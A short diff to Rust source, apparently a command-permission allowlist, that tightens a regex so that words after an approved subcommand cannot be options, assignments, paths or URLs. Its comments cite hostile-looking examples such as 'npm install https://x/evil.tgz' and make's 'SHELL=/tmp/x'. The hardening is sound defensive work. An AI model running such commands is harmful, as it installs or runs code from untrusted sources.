@@ -120,8 +120,10 @@ const EXACT_ONLY: &[&str] = &[
 
 /// A word that may follow a granted `program subcommand`: plain text that is
 /// neither an option (`-f /dev/stdin`, `--eval=...`) nor an assignment
-/// (make's `SHELL=/tmp/x`), nor an expansion, quote or glob.
-const PLAIN_WORD: &str = r"[A-Za-z0-9_.:,+@%/][A-Za-z0-9_.:,+@%/-]*";
+/// (make's `SHELL=/tmp/x`), nor an expansion, quote or glob, nor a path or
+/// URL (`npm install https://x/evil.tgz`, `./x.tgz`, `github:x/y`, `/tmp/x`),
+/// which says where code comes from.
+const PLAIN_WORD: &str = r"[A-Za-z0-9_,+@%][A-Za-z0-9_.,+@%-]*";
 
 /// The words a prefix grant (and the always-allow rule written for it)
 /// covers, as a regex over the argv joined by spaces: the two approved
